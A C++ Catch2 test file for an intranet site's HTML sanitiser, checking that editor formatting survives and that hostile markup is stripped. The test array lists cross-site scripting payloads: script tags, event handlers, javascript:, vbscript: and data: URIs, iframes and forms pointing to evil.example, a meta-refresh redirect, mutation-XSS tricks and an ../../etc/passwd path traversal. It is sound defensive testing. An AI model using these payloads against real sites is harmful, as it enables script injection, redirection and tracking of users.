// The intranet site's HTML sanitiser (server/web/HtmlSanitiser.h) against hostile article
// bodies: what a browser would run or load must not survive, what an editor writes must.

#include "server/web/HtmlSanitiser.h"

#include <catch2/catch.hpp>

using sen::server::web::sanitiseHtml;

namespace {

QString S(const char* utf8)
{
    return QString::fromUtf8(utf8);
}

QString clean(const char* html)
{
    return sanitiseHtml(S(html), [](const QString& name) {
        return name == S("ảnh 1.png") ? S("/news/00/file/%E1%BA%A3nh%201.png") : QString();
    });
}

} // namespace

TEST_CASE("Sanitiser: an editor's formatting survives", "[server][web][sanitiser]")
{
    CHECK(clean("<p>Xin <b>chào</b> <i>các</i> <u>bạn</u><br>dòng hai</p>") ==
          S("<p>Xin <b>chào</b> <i>các</i> <u>bạn</u><br>dòng hai</p>"));
    CHECK(clean("<h2>Mục</h2><ul><li>một</li><li>hai</li></ul>") ==
          S("<h2>Mục</h2><ul><li>một</li><li>hai</li></ul>"));
    CHECK(clean("<table><tr><td colspan=\"2\">a</td></tr></table>") ==
          S("<table><tr><td colspan=\"2\">a</td></tr></table>"));
    CHECK(clean("<a href=\"https://chinhphu.vn/a?b=1&c=2\">link</a>") ==
          S("<a href=\"https://chinhphu.vn/a?b=1&amp;c=2\" rel=\"noopener noreferrer\">link</a>"));
    CHECK(clean("<a href=\"mailto:vp@vptu.vn\">thư</a>").contains(S("href=\"mailto:vp@vptu.vn\"")));
    CHECK(clean("<img src=\"attachment:%E1%BA%A3nh%201.png\" alt=\"Ảnh\">") ==
          S("<img src=\"/news/00/file/%E1%BA%A3nh%201.png\" alt=\"Ảnh\">"));
    CHECK(clean("") == QString());
}

TEST_CASE("Sanitiser: scripts, handlers, styles and embedded documents do not survive",
          "[server][web][sanitiser]")
{
    const char* hostile[] = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<p onclick=\"alert(1)\" onmouseover=alert(2)>x</p>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"attachment:../../etc/passwd\">",
        "<img src=\"https://evil.example/track.gif\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
        "<form action=\"https://evil.example\"><input name=p><button>Gửi</button></form>",
        "<style>body{display:none}</style><p style=\"background:url(javascript:alert(1))\">x</p>",
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<div><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"></div>",
        "<base href=\"https://evil.example/\"><link rel=stylesheet href=x.css>",
        "<!--<script>alert(1)</script>--><p>x</p>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<p>a</p></body><script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<div id=\"x\" class=\"y\" data-x=\"1\">x</div>",
    };
    for (const char* html : hostile) {
        const QString out = clean(html);
        INFO(html << " -> " << out.toStdString());
        CHECK(!out.contains(S("<script"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("javascript:"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("vbscript:"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("data:"), Qt::CaseInsensitive));
        CHECK(!out.contains(S(" on"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("style"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("<iframe"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("<form"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("<input"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("<svg"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("<meta"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("<base"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("<link"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("evil.example"), Qt::CaseInsensitive));
        CHECK(!out.contains(S("class="), Qt::CaseInsensitive));
        CHECK(!out.contains(S("id="), Qt::CaseInsensitive));
    }
}

TEST_CASE("Sanitiser: text is escaped, unknown elements unwrapped, deep nesting bounded",
          "[server][web][sanitiser]")
{
    CHECK(clean("a < b & c > d") == S("a &lt; b &amp; c &gt; d"));
    CHECK(clean("<font color=red>đỏ</font>") == S("đỏ"));
    CHECK(clean("<p>&lt;script&gt;</p>") == S("<p>&lt;script&gt;</p>"));
    CHECK(clean("<a href=\"/relative\">x</a>") == S("<a>x</a>"));
    QString deep;
    for (int i = 0; i < 5000; ++i)
        deep += S("<div>");
    deep += S("sâu");
    const QString out = sanitiseHtml(deep, [](const QString&) { return QString(); });
    CHECK(out.count(S("<div>")) <= 256);
    CHECK(!out.contains(S("<script")));
}
